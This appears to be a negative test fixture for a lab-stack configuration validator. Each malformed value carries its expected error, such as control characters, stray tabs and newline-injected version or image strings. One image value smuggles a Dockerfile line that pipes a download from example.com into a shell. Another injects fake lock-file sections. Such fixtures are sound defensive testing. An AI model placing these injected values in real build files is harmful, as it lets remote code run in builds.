# Text that would inject lines into the rendered files (labgen.lock, the
# Dockerfiles, .env, the runbook) or be written raw: each is refused where
# it is written.
lab "stack_text" {
  title       = "Titles hold no NUL\u0000" # ERROR: Control character in text
  description = "A bell\u0007 rings" # ERROR: Control character in text
}

stack {
  mysql {
    version = "8.0.40\n[files]\n00  ./records/ID/record.json\n[images]" # ERROR: Invalid version
  }
  kafka {
    image = "Apache/Kafka:4.1.0" # ERROR: Invalid image
  }
  flink {
    image = "flink:1.20.1\nRUN curl -s https://example.com/x | sh" # ERROR: Invalid image
  }
  fluss {
    version           = "0.9.1-incubating"
    zookeeper_version = "3.9 2" # ERROR: Invalid version
    lake_version      = "1.3.1\r" # ERROR: Invalid version
  }
  iceberg {
    version = "1.10.1\u001b[2J" # ERROR: Control character in text
  }
  clickhouse {
    image = "clickhouse/clickhouse-server:25.8\t" # ERROR: Invalid image
  }
  postgres {
    version = "17"
    image   = "registry.example.com:5000/team/postgres:17@sha256:0000000000000000000000000000000000000000000000000000000000000000"
  }
}
